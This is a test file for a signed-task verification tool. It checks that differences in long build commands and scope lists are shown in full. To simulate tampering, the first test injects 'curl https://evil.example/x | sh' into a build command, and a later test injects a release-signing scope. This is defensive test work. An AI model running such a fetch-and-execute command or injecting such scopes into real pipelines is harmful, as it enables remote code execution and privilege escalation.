import { describe, expect, it } from 'vitest';
import { diffPaths, jsonDifferences, showDifference } from '../../../src/chain/verify-chain.js';

// Issue 10: a difference between a signed task and the queue's is shown where it is, on both sides; before, both
// sides were cut at the same 80 characters, so anything after them was invisible.
describe('task differences', () => {
  const base =
    'set -e; export MOZ_AUTOMATION=1 MOZ_SCM_LEVEL=3; cd /builds/worker/checkouts/gecko && ./mach configure ' +
    '--enable-release --with-branding=browser/branding/official && ./mach build --with-some-long-option ' +
    '--and-another-one && ./mach package && ./mach upload-symbols && echo done';

  it('a change far into a long string is shown, with the common text around it elided', () => {
    const changed = base.replace('./mach build', './mach build; curl https://evil.example/x | sh;');
    const [line] = diffPaths({ payload: { command: [base] } }, { payload: { command: [changed] } });
    expect(line).toContain('curl https://evil.example/x | sh');
    expect(line).toMatch(/^payload\.command\[0\]: ….* vs ….*curl https:\/\/evil\.example\/x \| sh/);
    // both sides are cut around the difference, not at a fixed length
    expect(line!.length).toBeLessThan(base.length * 2);
  });

  it('an element appended to (or inserted in) a long array is its own difference, by index', () => {
    const scopes = Array.from(
      { length: 6 },
      (_, i) => `queue:route:index.gecko.v2.mozilla-central.latest.${i}`,
    );
    const injected = 'project:releng:signing:cert:release-signing';
    expect(jsonDifferences({ scopes }, { scopes: [...scopes, injected] })).toEqual([
      { path: 'scopes[6]', actual: injected },
    ]);
    expect(
      jsonDifferences({ scopes }, { scopes: [...scopes.slice(0, 2), injected, ...scopes.slice(2)] }),
    ).toEqual([{ path: 'scopes[2]', actual: injected }]);
    expect(diffPaths({ scopes }, { scopes: [...scopes, injected] })).toEqual([
      `scopes[6]: absent vs "${injected}"`,
    ]);
    // removed on the other side
    expect(jsonDifferences({ scopes: [...scopes, injected] }, { scopes })).toEqual([
      { path: 'scopes[6]', expected: injected },
    ]);
  });

  it('each differing leaf by its path with both full values; absent sides omitted', () => {
    expect(jsonDifferences({ a: 1, b: { c: 'x' }, e: [1, 2] }, { a: 2, b: {}, e: [1, 3], f: null })).toEqual([
      { path: 'a', expected: 1, actual: 2 },
      { path: 'b.c', expected: 'x' },
      { path: 'e[1]', expected: 2, actual: 3 },
      { path: 'f', actual: null },
    ]);
    expect(showDifference({ path: 'b.c', expected: 'x' })).toBe('b.c: "x" vs absent');
  });
});
